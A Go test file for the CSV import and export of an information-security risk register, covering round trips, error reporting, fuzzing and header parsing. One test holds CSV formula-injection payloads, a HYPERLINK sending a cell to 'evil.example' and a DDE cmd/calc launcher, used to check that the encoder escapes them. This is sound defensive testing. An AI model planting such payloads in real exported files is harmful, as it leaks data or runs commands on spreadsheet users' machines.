package risk

import (
	"math"
	"os"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/ismskit/ismskit"
	"github.com/ismskit/ismskit/internal/table"
	"github.com/ismskit/ismskit/iso27002"
)

// csvFields clears the fields that have no CSV column.
func csvFields(rs []Risk) []Risk {
	out := make([]Risk, len(rs))
	for i, r := range rs {
		r.Treatment.Plan = nil
		r.Approvals = nil
		r.Acceptances = nil
		r.Extensions = nil
		out[i] = r
	}
	return out
}

func TestCSVRoundTripSample(t *testing.T) {
	reg := loadSample(t)
	data, err := EncodeCSV(reg.Risks)
	require.NoError(t, err)
	golden(t, "testdata/risks.golden.csv", data)
	back, err := DecodeCSV(data)
	require.NoError(t, err)
	assert.Equal(t, csvFields(reg.Risks), back)
	again, err := EncodeCSV(back)
	require.NoError(t, err)
	assert.Equal(t, string(data), string(again))
}

func TestCSVRoundTripEdgeCases(t *testing.T) {
	rs := []Risk{{
		ID: "R,1", Title: "Quote \" and, comma", Description: "line one\nline two", Owner: " padded owner ",
		Assets:     []string{"a b", "c"},
		Properties: []Property{Availability, Confidentiality},
		Likelihood: 3, Impact: 0,
		PropertyImpacts: []PropertyImpact{{Property: Availability, Impact: 4}, {Property: Confidentiality, Impact: 2}},
		Controls: []AppliedControl{
			{Control: iso27002.MustParse("A.5.1"), Status: Implemented, LikelihoodEffect: 10},
			{Control: iso27002.MustParse("A.9.4.1"), Status: Planned, ImpactEffect: 20},
			{Control: iso27002.MustParse("acme:k=v;x"), Status: Planned, LikelihoodEffect: 5, ImpactEffect: 5},
		},
		Current:   &Estimate{Likelihood: 0, Impact: 0},
		Residual:  &Estimate{Likelihood: 1, Impact: 2},
		Treatment: Treatment{Option: Share, SharedWith: "Insurer", Rationale: "cheaper"},
		Scoring:   &ScoreRecord{Method: "cvss", Version: "3.1", Vector: "CVSS:3.1/AV:N", Score: 9.8, Severity: "critical"},
	}, {ID: "R-2", Scoring: &ScoreRecord{}}}
	data, err := EncodeCSV(rs)
	require.NoError(t, err)
	back, err := DecodeCSV(data)
	require.NoError(t, err)
	assert.Equal(t, rs, back)
}

func TestCSVColumnsSubsetAndOrder(t *testing.T) {
	in := "\ufefflikelihood,id,owner,assets\n3,R-1,cto, db ; web\n"
	rs, err := DecodeCSV([]byte(in))
	require.NoError(t, err)
	assert.Equal(t, []Risk{{ID: "R-1", Owner: "cto", Likelihood: 3, Assets: []string{"db", "web"}}}, rs)
}

func TestEncodeCSVErrors(t *testing.T) {
	tests := []struct {
		name string
		risk Risk
		path string
	}{
		{"separator in list", Risk{ID: "r", Assets: []string{"a;b"}}, "risks[0].assets[0]"},
		{"empty list item", Risk{ID: "r", Threats: []string{""}}, "risks[0].threats[0]"},
		{"padded list item", Risk{ID: "r", Vulnerabilities: []string{" v"}}, "risks[0].vulnerabilities[0]"},
		{"bad property", Risk{ID: "r", Properties: []Property{"x"}}, "risks[0].properties[0]"},
		{"bad property impact", Risk{ID: "r", PropertyImpacts: []PropertyImpact{{Property: "x"}}}, "risks[0].propertyImpacts[0].property"},
		{"zero control", Risk{ID: "r", Controls: []AppliedControl{{Status: Planned}}}, "risks[0].controls[0].control"},
		{"bad status", Risk{ID: "r", Controls: []AppliedControl{{Control: iso27002.MustParse("5.1")}}}, "risks[0].controls[0].status"},
		{"bad option", Risk{ID: "r", Treatment: Treatment{Option: "x"}}, "risks[0].treatment.option"},
		{"score", Risk{ID: "r", Scoring: &ScoreRecord{Score: posInf()}}, "risks[0].scoring.score"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			out, err := EncodeCSV([]Risk{tt.risk})
			assert.Nil(t, out)
			requireFieldErr(t, err, tt.path, ismskit.ErrNotEncodable)
		})
	}
}

func posInf() float64 { var z float64; return 1 / z }

func TestDecodeCSVErrors(t *testing.T) {
	tests := []struct {
		name string
		in   string
		path string
		kind error
	}{
		{"empty", "", "", ismskit.ErrSyntax},
		{"unknown column", "id,likelyhood\nr,3\n", "header[1]", ismskit.ErrSyntax},
		{"repeated column", "id,owner,owner\nr,a,b\n", "header[2]", ismskit.ErrSyntax},
		{"no id column", "owner\na\n", "header", ismskit.ErrSyntax},
		{"field count", "id,owner\nr\n", "rows[0]", ismskit.ErrSyntax},
		{"number", "id,likelihood\nr,high\n", "rows[0].likelihood", ismskit.ErrSyntax},
		{"property", "id,properties\nr,privacy\n", "rows[0].properties[0]", ismskit.ErrUnknownValue},
		{"empty item", "id,assets\nr,a;;b\n", "rows[0].assets[1]", ismskit.ErrSyntax},
		{"property impact", "id,propertyImpacts\nr,integrity:3\n", "rows[0].propertyImpacts[0]", ismskit.ErrSyntax},
		{"control syntax", "id,controls\nr,5.1\n", "rows[0].controls[0]", ismskit.ErrSyntax},
		{"control fields", "id,controls\nr,5.1=planned:1\n", "rows[0].controls[0]", ismskit.ErrSyntax},
		{"control id", "id,controls\nr,5.99=planned:1:1\n", "rows[0].controls[0]", ismskit.ErrUnknownControl},
		{"control status", "id,controls\nr,5.1=done:1:1\n", "rows[0].controls[0]", ismskit.ErrUnknownValue},
		{"control effect", "id,controls\nr,5.1=planned:x:1\n", "rows[0].controls[0]", ismskit.ErrSyntax},
		{"treatment", "id,treatment\nr,transfer\n", "rows[0].treatment", ismskit.ErrUnknownValue},
		{"score", "id,scoringScore\nr,NaN\n", "rows[0].scoringScore", ismskit.ErrSyntax},
		{"quote", "id\n\"r\n", "", ismskit.ErrSyntax},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			rs, err := DecodeCSV([]byte(tt.in))
			assert.Nil(t, rs)
			requireFieldErr(t, err, tt.path, tt.kind)
		})
	}
}

func TestDecodeCSVReportsEveryRow(t *testing.T) {
	_, err := DecodeCSV([]byte("id,likelihood,treatment\nr1,x,modify\nr2,2,keep\nr3,3,retain\n"))
	assert.Len(t, fieldErrors(err), 2)
	assert.True(t, strings.Contains(err.Error(), "rows[1].treatment"))
}

func TestDecodeCSVListItemLineBreak(t *testing.T) {
	for _, tc := range []struct{ name, doc, where string }{
		{"bare CR", "id,assets\nr,a\r0", "rows[0].assets[0]"},
		{"quoted LF", "id,threats\nr,\"x;y\nz\"\n", "rows[0].threats[1]"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			_, err := DecodeCSV([]byte(tc.doc))
			require.ErrorIs(t, err, ismskit.ErrSyntax)
			assert.ErrorContains(t, err, tc.where)
			assert.ErrorContains(t, err, "holds a line break")
		})
	}
}

func FuzzDecodeCSV(f *testing.F) {
	reg := testRegister()
	seed, err := EncodeCSV(reg.Risks)
	if err != nil {
		f.Fatal(err)
	}
	f.Add(seed)
	if full, err := EncodeRegisterCSV(reg); err == nil {
		f.Add(full) // words and computed columns
	}
	f.Add([]byte("ID,Business unit,Residual level,likelihood\nr,ops,High,2\n"))
	f.Add([]byte("id,controls,propertyImpacts\nr,acme:a=b=planned:1:2 5.1=implemented:0:0,integrity=2\n"))
	f.Add([]byte("id,description\nr,\"a\r\nb\"\n"))
	f.Add([]byte("id,assets,scoringScore\nr, a ;b,1e3\n"))
	f.Add([]byte("id,title,owner,Assets\n,,,0\r0")) // a line break in a list item, found by fuzzing
	f.Fuzz(func(t *testing.T, data []byte) {
		rs, err := DecodeCSV(data)
		if err != nil {
			return
		}
		out, err := EncodeCSV(rs)
		if err != nil {
			// only values that CSV cannot carry may be refused, and
			// those never come out of DecodeCSV
			t.Fatalf("risks read from CSV cannot be written back: %v", err)
		}
		back, err := DecodeCSV(out)
		if err != nil {
			t.Fatalf("own output unreadable: %v\n%q", err, out)
		}
		require.Equal(t, rs, back)
	})
}

func TestCSVColumnsIsACopy(t *testing.T) {
	c := CSVColumns()
	assert.Equal(t, "id", c[0])
	c[0] = "x"
	assert.Equal(t, "id", CSVColumns()[0])
}

// CSV formula injection: no cell of EncodeCSV's output begins
// with a character that makes a spreadsheet run it, and DecodeCSV still
// reads the library's own output back exactly.
func TestCSVFormulaInjection(t *testing.T) {
	rs := []Risk{{
		ID:           "=1+1",
		Title:        `=HYPERLINK("http://evil.example/?x="&A1,"click")`,
		Description:  "+cmd|' /C calc'!A0",
		Owner:        "@SUM(A1:A9)",
		BusinessUnit: "\t=1",
		Assets:       []string{"-x", "y"},
		Likelihood:   -1,
		Treatment:    Treatment{Option: Share, SharedWith: "\r=2", Rationale: "'quoted'"},
		Scoring:      &ScoreRecord{Method: "'=x", Version: "''", Vector: "\x00=3", Score: -2.5, Severity: "-"},
	}, {ID: "R-2", Title: "plain", Owner: "'o"}}
	data, err := EncodeCSV(rs)
	require.NoError(t, err)
	requireNoLiveFormula(t, data)
	assert.Contains(t, string(data), `'=1+1,"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`)
	back, err := DecodeCSV(data)
	require.NoError(t, err)
	assert.Equal(t, rs, back)

	// a hand-written cell with an apostrophe before ordinary text is kept
	got, err := DecodeCSV([]byte("id,title\nR-1,'quoted'\n"))
	require.NoError(t, err)
	assert.Equal(t, "'quoted'", got[0].Title)
}

// requireNoLiveFormula fails if a data cell of the CSV begins with a
// character that makes a spreadsheet read it as a formula.
func requireNoLiveFormula(t *testing.T, data []byte) {
	t.Helper()
	recs, err := table.ReadCSV(data)
	require.NoError(t, err)
	for i, rec := range recs {
		for j, c := range rec {
			if c != "" && strings.ContainsRune("=+-@\t\r\x00", rune(c[0])) {
				t.Fatalf("record %d, cell %d begins with %q: %q", i, j, c[0], c)
			}
		}
	}
}

// FuzzEncodeCSV writes risks whose text fields hold any string, checks
// that no cell is a live formula, and reads them back.
func FuzzEncodeCSV(f *testing.F) {
	f.Add("R-1", "title", "owner", "desc", 3, 9.5)
	f.Add("=1", "+2", "-3", "@4", -1, -1.5)
	f.Add("'", "''=", "\t", "\r\n", 0, 0.0)
	f.Fuzz(func(t *testing.T, id, title, owner, desc string, likelihood int, score float64) {
		if math.IsNaN(score) || math.IsInf(score, 0) {
			return
		}
		rs := []Risk{{ID: id, Title: title, Owner: owner, Description: desc, BusinessUnit: title,
			Likelihood: likelihood, Treatment: Treatment{Rationale: desc, SharedWith: owner},
			Scoring: &ScoreRecord{Method: id, Version: owner, Vector: title, Score: score, Severity: desc}}}
		data, err := EncodeCSV(rs)
		require.NoError(t, err)
		requireNoLiveFormula(t, data)
		back, err := DecodeCSV(data)
		require.NoError(t, err, "%q", data)
		require.Equal(t, rs, back)
	})
}

// EncodeRegisterCSV adds the computed ratings in words; DecodeCSV skips
// them and reads the same risks as from EncodeCSV.
func TestRegisterCSV(t *testing.T) {
	reg := loadSample(t)
	data, err := EncodeRegisterCSV(reg)
	require.NoError(t, err)
	golden(t, "testdata/register.golden.csv", data)
	head, rest, _ := strings.Cut(string(data), "\r\n")
	assert.True(t, strings.HasPrefix(head, "ID,Title,Description,Owner,Business unit,"), head)
	assert.True(t, strings.HasSuffix(head, ",Inherent level,Inherent rating,Current level,Current rating,Residual level,Residual rating,Acceptance limit,Residual above limit"), head)
	assert.Contains(t, rest, ",High,L3 I5,Medium,L3 I3,Medium,L3 I2,Medium,No\r\n", "R-01 in words")
	back, err := DecodeCSV(data)
	require.NoError(t, err)
	assert.Equal(t, csvFields(reg.Risks), back)

	// a computed column edited or stale does not matter
	edited := strings.Replace(string(data), ",High,L3 I5,", ",Low,L9 I9,", 1)
	back, err = DecodeCSV([]byte(edited))
	require.NoError(t, err)
	assert.Equal(t, csvFields(reg.Risks), back)

	_, err = EncodeRegisterCSV(Register{})
	require.ErrorIs(t, err, ismskit.ErrMissing)
	bad := loadSample(t)
	bad.Risks[2].Likelihood = 7
	_, err = EncodeRegisterCSV(bad)
	require.ErrorIs(t, err, ismskit.ErrOutOfRange)
}

// The header form of earlier versions, the keys of CSVColumns, still
// reads: testdata/risks-codes.csv is EncodeCSV's output before the
// headings were words.
func TestDecodeCSVKeyHeader(t *testing.T) {
	old, err := os.ReadFile("testdata/risks-codes.csv")
	require.NoError(t, err)
	require.True(t, strings.HasPrefix(string(old), "id,title,description,owner,businessUnit,"))
	rs, err := DecodeCSV(old)
	require.NoError(t, err)
	assert.Equal(t, csvFields(loadSample(t).Risks), rs)
}

func TestDecodeCSVHeadings(t *testing.T) {
	tests := []struct {
		name, in string
		want     []Risk
		path     string
	}{
		{"words in any case", "id,BUSINESS UNIT, residual likelihood (stated) ,Residual impact (stated)\nR-1,ops,2,3\n",
			[]Risk{{ID: "R-1", BusinessUnit: "ops", Residual: &Estimate{Likelihood: 2, Impact: 3}}}, ""},
		{"words and keys mixed", "ID,likelihood,Impact per property\nR-1,2,integrity=4\n",
			[]Risk{{ID: "R-1", Likelihood: 2, PropertyImpacts: []PropertyImpact{{Property: Integrity, Impact: 4}}}}, ""},
		{"computed columns skipped", "ID,Residual level,Acceptance limit\nR-1,whatever,x\n", []Risk{{ID: "R-1"}}, ""},
		{"key and heading of one column", "id,businessUnit,Business unit\nR-1,a,b\n", nil, "header[2]"},
		{"computed column twice", "id,Residual level,residual level\nR-1,a,b\n", nil, "header[2]"},
		{"unknown heading", "id,Residual\nR-1,a\n", nil, "header[1]"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			rs, err := DecodeCSV([]byte(tt.in))
			if tt.path != "" {
				requireFieldErr(t, err, tt.path, ismskit.ErrSyntax)
				return
			}
			require.NoError(t, err)
			assert.Equal(t, tt.want, rs)
		})
	}
}
